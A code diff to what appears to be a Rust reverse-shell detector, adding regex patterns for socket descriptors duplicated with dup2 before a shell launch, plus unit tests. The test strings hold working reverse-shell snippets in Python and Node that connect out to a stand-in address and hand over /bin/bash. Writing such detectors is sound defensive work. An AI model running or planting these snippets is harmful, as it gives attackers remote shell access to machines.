@@ -7,7 +7,10 @@
 //!   socket wired to the shell's input (`stdin=s.fileno()`, `proc.stdin.write(<socket read>)`,
 //!   `client.pipe(sh.stdin)`);
 //! - the command loop: an outbound socket whose received text is run as a command (`os.popen(data)`,
-//!   `subprocess.check_output(data, shell=True)`) and whose output is sent back.
+//!   `subprocess.check_output(data, shell=True)`) and whose output is sent back;
+//! - the redirect: the process's own descriptors duplicated onto a socket however the descriptor numbers
+//!   are written (`for fd in range(3): os.dup2(s.fileno(), fd)`), then a shell started (`pty.spawn`,
+//!   `os.execv('/bin/sh', …)`), whatever host the socket was given.
 //!
 //! A shell started with a pipe for the program's own commands, or a socket used for something else in
 //! the same file, is not a reverse shell: the parts must sit within [`WINDOW`] bytes of each other and the
@@ -85,6 +88,20 @@ static SOCKET_READ: LazyLock<Regex> = LazyLock::new(|| {
 static RECEIVED: LazyLock<Regex> = LazyLock::new(|| {
     ascii_regex(r"(?m)\b([A-Za-z_]\w*)\s*=\s*\w+\.recv\s*\(").expect("received pattern")
 });
+/// A socket's descriptor copied over one of the process's own.
+#[allow(clippy::expect_used)]
+static DUP2_SOCKET: LazyLock<Regex> = LazyLock::new(|| {
+    ascii_regex(r"\bdup2\s*\(\s*[\w.]+\.fileno\s*\(\s*\)\s*,").expect("dup2 pattern")
+});
+/// A shell started in place or on a terminal.
+#[allow(clippy::expect_used)]
+static SHELL_IN_PLACE: LazyLock<Regex> = LazyLock::new(|| {
+    ascii_regex(concat!(
+        r#"\bpty\.spawn\s*\(|\bspawn\s*\(\s*['"](?:/usr)?/bin/(?:ba|z|da|k)?sh['"]"#,
+        r#"|\bexecl?[pv]?e?\s*\(\s*['"](?:/usr)?/bin/(?:ba|z|da|k)?sh['"]"#
+    ))
+    .expect("shell in place pattern")
+});
 #[allow(clippy::expect_used)]
 static SEND_BACK: LazyLock<Regex> =
     LazyLock::new(|| ascii_regex(r"\.send(?:all)?\s*\(").expect("send pattern"));
@@ -129,6 +146,19 @@ fn report_reverse_shells(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit
             );
             if !report(m.start(), m.end(), message) {
                 return;
+            }
+        }
+    }
+    if body.contains("dup2") {
+        for m in DUP2_SOCKET.find_iter(body).take(MAX_PARTS) {
+            if near(&CONNECT, m.start())
+                && (near(&SHELL_IN_PLACE, m.start()) || near(&SHELL, m.start()))
+            {
+                let message = "the process's descriptors are duplicated onto a network socket and a shell is started on them (reverse shell)".to_string();
+                if !report(m.start(), m.end(), message) {
+                    return;
+                }
+                break;
             }
         }
     }
@@ -216,6 +246,15 @@ mod tests {
         assert_eq!(fired(fileno, Language::Python, "pkg/x.py").len(), 1);
         let node = "const net = require('net'); const cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, HOST, () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n";
         assert_eq!(fired(node, Language::Javascript, "index.js").len(), 1);
+    }
+
+    #[test]
+    fn descriptors_duplicated_onto_a_socket_in_a_loop_then_a_shell_fires() {
+        let text = "import os, socket, pty\nparts = [198, 51, 100, 71]\ns = socket.socket()\ns.connect(('.'.join(map(str, parts)), 443))\nfor fd in range(3):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/bash')\n";
+        assert_eq!(fired(text, Language::Python, "pkg/__init__.py").len(), 1);
+        // A daemon that points its output at a log file and a test server's socket without a shell.
+        let quiet = "import os, socket\nlog = open('/var/log/d.log', 'a')\nos.dup2(log.fileno(), 1)\ns = socket.socket()\ns.connect(('localhost', 8080))\ns.sendall(b'hi')\n";
+        assert!(fired(quiet, Language::Python, "pkg/daemon.py").is_empty());
     }
 
     #[test]
